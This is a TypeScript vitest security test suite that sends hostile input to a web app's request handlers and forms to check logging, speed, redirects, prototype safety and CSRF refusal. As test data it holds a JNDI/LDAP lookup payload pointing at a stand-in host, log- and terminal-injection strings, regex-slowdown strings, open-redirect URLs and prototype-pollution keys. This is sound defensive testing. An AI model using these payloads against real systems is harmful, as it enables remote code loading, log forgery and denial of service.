import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { inputsOf } from '#tests/support/access/inputs.ts';
import { allRequestHandlers, type RequestHandler } from '#tests/support/access/request-handlers.ts';
import { databaseSnapshot } from '#tests/support/access/snapshot.ts';
import { makeAccount } from '#tests/support/accounts.ts';
import { makeAdvisor, newSession } from '#tests/support/advisors.ts';
import { call } from '#tests/support/call.ts';
import { captureLog } from '#tests/support/captured-log.ts';
import { createWorld } from '#tests/support/world.ts';

let id: string;
let member: Record<string, string>;
let advisor: Record<string, string>;
let log: ReturnType<typeof captureLog>;
beforeAll(async () => {
  createWorld({ RATE_LIMITS: 'off' });
  ({ id } = await makeAccount());
  advisor = (await makeAdvisor()).cookies;
});
// An earlier request may have ended a session.
beforeEach(async () => {
  member = await newSession(id, 'natural');
  log = captureLog();
});

const cases = (await allRequestHandlers()).map((subject) => [subject.name, subject] as const);

/**
 * Texts that end a line, command a terminal, format a message or cause a look-up in careless code.
 */
const lineBreakers = [
  'MARCA\n{"level":60,"msg":"falsa"}',
  'MARCA"}\r\n{"level":60}',
  'MARCA\u2028\u2029\u0085\u000b\u000c',
  '\u001b[2J\u001b]0;MARCA\u0007\u009b31m',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a hostile caller sends
  '${jndi:ldap://malo.cl/MARCA}%s%d%j',
  'MARCA\ud800 \ufeff\u202e',
];
/** A careless expression takes seconds or minutes for these. */
const slow = [
  `${'1'.repeat(60_000)}!`,
  `${' '.repeat(60_000)}x`,
  `${'a@'.repeat(30_000)}`,
  `${'-.'.repeat(30_000)}=`,
  `${'0'.repeat(60_000)}k`,
];

async function send(
  { operation, path, isForm, handler }: RequestHandler,
  value: string,
  extra = {},
) {
  const names = [...new Set(inputsOf(operation).map(({ field }) => field))];
  const fields = Object.fromEntries(names.map((name) => [name === '*' ? 'x' : name, value]));
  const params = Object.fromEntries(
    [...path.matchAll(/\{(\w+)\}/g)].map((match) => [match[1] ?? '', value]),
  );
  const hasBody = isForm || (operation.method !== 'GET' && operation.method !== 'DELETE');
  const inAddress = isForm ? encodeURIComponent(value.toWellFormed()) : 'x';
  const query = new URLSearchParams(hasBody ? {} : fields);
  const body = { ...fields, ...extra };
  const isText = isForm || operation.kind !== 'json';
  const texts = Object.fromEntries(Object.entries(body).map(([k, v]) => [k, String(v)]));
  return call(await handler(), `${path.replace(/\{\w+\}/g, inAddress)}?${query}`, {
    method: isForm ? 'POST' : operation.method,
    params,
    cookies: operation.auth === 'admin' ? advisor : member,
    headers: { 'user-agent': value.replace(/[^ -~]/g, '').slice(0, 500) },
    ...(hasBody ? (isText ? { form: texts } : { json: body }) : {}),
  });
}

describe.each(cases)('%s', (name, subject) => {
  test('logs hostile input as one JSON line each, without what was sent', async () => {
    for (const value of lineBreakers) await send(subject, value);
    const lines = log.text().split('\n').filter(Boolean);
    // Google's start redirects, and Next's own pages log nothing.
    expect(lines.length, name).toBeGreaterThan(0);
    for (const line of lines) {
      expect(line.length).toBeLessThan(4000);
      expect(line).toMatch(/^[ -~]+$/);
      expect(JSON.parse(line)).toMatchObject({ level: expect.any(Number) });
      expect(line).not.toContain('MARCA');
    }
    expect(log.lines().filter(({ level }) => level >= 50)).toEqual([]);
  });

  test('takes less than 1.5 s for long input, and redirects to no other host', async () => {
    for (const value of [...slow, '//malo.cl', 'https://malo.cl/', '/\\malo.cl', '\t//malo.cl']) {
      await subject.handler();
      const before = process.cpuUsage();
      const response = await send(subject, value);
      await response.body?.cancel();
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1000, value.slice(0, 9)).toBeLessThan(1500);
      const location = response.headers.get('location');
      if (location?.startsWith('https://accounts.google.com/')) continue;
      if (location)
        expect(new URL(location, 'http://localhost').host, location).toMatch(/^localhost/);
    }
  });

  test('leaves Object.prototype unchanged for input that names it', async () => {
    const hostile = JSON.parse('{"__proto__":{"p":1},"constructor":{"prototype":{"p":1}}}');
    await send(subject, 'x', { ...hostile, '__proto__[p]': '1', 'constructor.prototype.p': '1' });
    await send(subject, '__proto__');
    await send(subject, 'constructor');
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>).p).toBeUndefined();
    expect(log.lines().filter(({ level }) => level >= 50)).toEqual([]);
  });
});

const forms = cases.filter(([, { isForm }]) => isForm);
test('every form refuses what another site had a browser send, and stores nothing', async () => {
  const before = await databaseSnapshot();
  const headers: Record<string, string>[] = [
    { 'sec-fetch-site': 'cross-site' },
    { 'sec-fetch-site': 'same-site', origin: 'https://otro.resguardo.test' },
    { origin: 'https://malo.cl' },
    { origin: 'null' },
  ];
  for (const [name, { operation, path, handler }] of forms) {
    for (const foreign of headers) {
      const response = await call(await handler(), path.replace(/\{\w+\}/g, 'x'), {
        form: { email: 'a@b.cl' },
        headers: foreign,
        cookies: operation.auth === 'admin' ? advisor : member,
      });
      expect(response.status, name).toBe(303);
      expect(response.headers.get('location'), name).toContain('error=csrf_invalid');
    }
  }
  expect(await databaseSnapshot()).toEqual(before);
});

test('there are more than 115 forms and operations to attack', () => {
  expect(cases.length).toBeGreaterThan(115);
  expect(forms.length).toBeGreaterThan(40);
});
